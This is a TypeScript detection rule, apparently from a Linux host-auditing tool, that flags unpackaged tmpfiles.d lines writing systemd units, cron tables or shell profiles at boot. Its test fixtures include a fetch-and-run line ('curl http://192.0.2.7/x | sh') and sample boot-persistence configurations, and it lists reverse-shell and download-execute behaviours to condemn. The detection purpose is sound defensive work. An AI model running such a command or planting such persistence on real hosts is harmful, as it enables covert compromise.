import type { Inventory } from "../inventory/inventory.ts";
import type { Manager } from "../manager/manager.ts";
import { scopeName } from "../manager/scope.ts";
import { readTmpfiles, type TmpfilesLine } from "../manager/tmpfiles.ts";
import { openPrograms, type Programs } from "../programs/follow.ts";
import { autostartPlace } from "../programs/places.ts";
import { type BehaviourKind, DEFAULT_SEARCH_PATH } from "../programs/program.ts";
import { parseUnitFile } from "../syntax/unit-file.ts";
import { parseUnitName } from "../syntax/unit-name.ts";
import { encodeUtf8 } from "../syntax/utf8.ts";
import { serviceOf } from "../units/service.ts";
import { mergeUnit } from "../units/unit.ts";
import { evidenceAt } from "./evidence.ts";
import { ACCOUNTS, dpkg, numbers, script, timed } from "./example-host.ts";
import { unitFileAt } from "./overrides.ts";
import type { Accusation, HostRule, Tree } from "./rule.ts";
import { isStray } from "./standing.ts";

/** Lines told of; more are the same news, and each asks the package lists what it runs. */
const MOST = 50;

/** What no unit of an administrator does. */
const CONDEMNED: ReadonlySet<BehaviourKind> = new Set([
  "reverse-shell",
  "fetch-to-interpreter",
  "fetch-to-executable-file",
  "decode-to-interpreter",
]);

/** Boot itself puts a unit, a cron table, a generator or the like in its place, from a line of nobody's package. */
export const tmpfilesWritesAutostart: HostRule = {
  id: "tmpfiles-writes-autostart",
  subject: "host",
  title: "A tmpfiles.d line that no package ships writes a unit or another autostart at boot",
  severity: "high",
  confidence: "medium",
  signal: "suspicious",
  family: "placement",
  depth: "regular",
  techniques: ["T1543.002", "T1053.006", "T1037"],
  controls: ["CM-5", "CM-6", "SI-7"],
  why: "systemd-tmpfiles runs as root at each boot and makes the files its lines name. One line keeps a unit alive that is removed again and again, and nothing that looks at units shows where it comes from.",
  benign: [
    "tmpfiles.d files of packages (not accused)",
    "Lines that make directories, state and devices, or set modes (not accused)",
    "Images that keep /etc in memory and link their units into it; ship such lines in a package",
  ],
  clears: "ship the unit itself, or the line in a package",
  references: ["man:tmpfiles.d(5)", "man:systemd-tmpfiles(8)"],

  *check(inventory) {
    const told = new Set<string>();
    const programs = openPrograms(inventory.host);
    /** The activation that a file is part of: there it counts. */
    const owners = new Map(
      inventory.activations().flatMap(({ unit, closure }) => closure.files.map(({ path }) => [path, unit])),
    );
    for (const manager of inventory.managers)
      for (const line of readTmpfiles(manager)) {
        const { path, span } = line;
        const place = autostartPlace(path);
        const key = `${span.path}:${span.line}`;
        if (place === null || told.has(key)) continue;
        const provenance = inventory.provenanceOf(span.path);
        if (!isStray({ path: span.path, provenance }, inventory)) continue;
        if (told.size === MOST) return;
        told.add(key);
        const owner = owners.get(path);
        const runs = runsOf(line, manager, programs, inventory);
        yield {
          unit: owner ?? path,
          scope: scopeName(manager.scope),
          says: `at each boot ${span.path} writes ${path}, ${place.says}${owner === undefined ? "" : `, for ${owner}`}${runs === null ? "" : `; ${runs.says}`}`,
          ...runs?.more,
          evidence: [evidenceAt(inventory, span)],
        };
      }
  },

  examples: () => ({
    fires: [
      line("f /etc/systemd/system/x.service - - - - [Service]\\nExecStart=/usr/local/bin/x\\n"),
      line(
        "f+ /run/systemd/system/x.service - - - - [Service]\\nExecStart=/bin/sh -c 'curl http://192.0.2.7/x | sh'\\n",
      ),
      line("C /etc/systemd/system/x.service.d/a.conf - - - - /var/lib/x/a.conf", {
        "/var/lib/x/a.conf": "[Service]\nExecStart=/usr/local/bin/x\n",
      }),
      line("L+ /etc/systemd/system/timers.target.wants/x.timer - - - - /var/lib/x/x.timer"),
      timed("ExecStart=/usr/bin/true", line("f /etc/cron.d/x - - - - * * * * * root /usr/local/bin/x\\n")),
      line("f /etc/systemd/system/x.service - - - - [Service]\\nExecStart=/usr/bin/true\\n"),
      {
        ...ACCOUNTS,
        "/home/alice/.config/systemd/user": { dir: true },
        "/usr/local/share/user-tmpfiles.d/x.conf": "w /home/alice/.profile - - - - /usr/bin/true\n",
      },
      timed("ExecStart=/usr/bin/true", line("w /etc/systemd/system/job.service - - - - [Unit]\\n")),
      {
        ...ACCOUNTS,
        "/home/alice/.config/systemd/user": { dir: true },
        "/usr/local/share/user-tmpfiles.d/x.conf":
          "L %h/.config/systemd/user/x.service - - - - /opt/x/x.service\n",
      },
      line(
        numbers(60)
          .map((number) => `f /etc/cron.d/x${number}`)
          .join("\n"),
      ),
    ],
    finds: {
      10: numbers(50).map(
        (number) =>
          `suspicious high medium /etc/tmpfiles.d/x.conf:${number - 8}: at each boot /etc/tmpfiles.d/x.conf writes /etc/cron.d/x${number}, a cron table`,
      ),
      1: [
        "suspicious high medium /etc/tmpfiles.d/x.conf:2: at each boot /etc/tmpfiles.d/x.conf writes /etc/systemd/system/x.service, a systemd unit directory; it runs /usr/local/bin/x",
      ],
      2: [
        "hostile critical high /etc/tmpfiles.d/x.conf:2: at each boot /etc/tmpfiles.d/x.conf writes /run/systemd/system/x.service, a systemd unit directory; What is downloaded from http://192.0.2.7/x is run by sh.",
      ],
      3: [
        "suspicious high medium /etc/tmpfiles.d/x.conf:2: at each boot /etc/tmpfiles.d/x.conf writes /etc/systemd/system/x.service.d/a.conf, a systemd unit directory; it runs /usr/local/bin/x",
      ],
      4: [
        "suspicious high medium /etc/tmpfiles.d/x.conf:2: at each boot /etc/tmpfiles.d/x.conf writes /etc/systemd/system/timers.target.wants/x.timer, a systemd unit directory",
      ],
      5: [
        "suspicious high medium /etc/tmpfiles.d/x.conf:2: at each boot /etc/tmpfiles.d/x.conf writes /etc/cron.d/x, a cron table",
      ],
      6: [
        "suspicious high medium /etc/tmpfiles.d/x.conf:2: at each boot /etc/tmpfiles.d/x.conf writes /etc/systemd/system/x.service, a systemd unit directory",
      ],
      7: [
        "suspicious high medium /usr/local/share/user-tmpfiles.d/x.conf:1: at each boot /usr/local/share/user-tmpfiles.d/x.conf writes /home/alice/.profile, a shell's start-up file",
      ],
      8: [
        "suspicious high medium /etc/tmpfiles.d/x.conf:2: at each boot /etc/tmpfiles.d/x.conf writes /etc/systemd/system/job.service, a systemd unit directory, for job.timer",
      ],
      9: [
        "suspicious high medium /usr/local/share/user-tmpfiles.d/x.conf:1: at each boot /usr/local/share/user-tmpfiles.d/x.conf writes /home/alice/.config/systemd/user/x.service, a systemd user unit directory",
      ],
    },
    quiet: [
      line("d /run/app 0755 app app -\nw /sys/kernel/mm/ksm/run - - - - 1\nf /run/app/state - - - - x"),
      {
        ...dpkg(["/usr/lib/tmpfiles.d/vendor.conf"]),
        "/usr/lib/tmpfiles.d/vendor.conf": "L /etc/systemd/system/x.service - - - - /usr/share/x/x.service\n",
      },
    ],
  }),
};

function line(text: string, files: Tree = {}): Tree {
  return { "/etc/tmpfiles.d/x.conf": `# x\n${text}\n`, "/usr/local/bin/x": script(), ...files };
}

interface Runs {
  readonly says: string;
  readonly more: Partial<Accusation>;
}

/** What the unit that a line writes would run: the worst its commands do, or a program nobody answers for. */
function runsOf(
  { makes, path, argument, span }: TmpfilesLine,
  manager: Manager,
  programs: Programs,
  inventory: Inventory,
): Runs | null {
  const name = /([^/]+?)(?:\.d\/[^/]+)?$/.exec(path)?.[1] ?? "";
  if (argument === null || parseUnitName(name) === null) return null;
  const file = makes === "text" ? parseUnitFile(encodeUtf8(argument), path) : unitFileAt(argument, inventory);
  if (file === null) return null;
  const { host } = inventory;
  const { specifiers } = manager.load(name).unit;
  const { commands } = serviceOf(mergeUnit(name, [{ kind: "fragment", file }], { context: specifiers }));
  const context = { host, root: "/", workingDirectory: null, searchPath: DEFAULT_SEARCH_PATH };
  const followed = [...commands.values()].flat().map(({ path: program, argv }) => {
    const command = { argv: [program, ...argv.slice(1)], span, environment: new Map() };
    return programs.follow(command, context);
  });
  const worst = followed.flatMap(({ behaviours }) => behaviours).find(({ kind }) => CONDEMNED.has(kind));
  if (worst !== undefined) {
    const { says, confidence } = worst;
    return { says, more: { signal: "hostile", severity: "critical", confidence } };
  }
  const stranger = followed
    .flatMap(({ reached }) => reached.flatMap((each) => each.path ?? []))
    .find((each) => isStray({ path: each, provenance: inventory.provenanceOf(each) }, inventory));
  return stranger === undefined ? null : { says: `it runs ${stranger}`, more: {} };
}
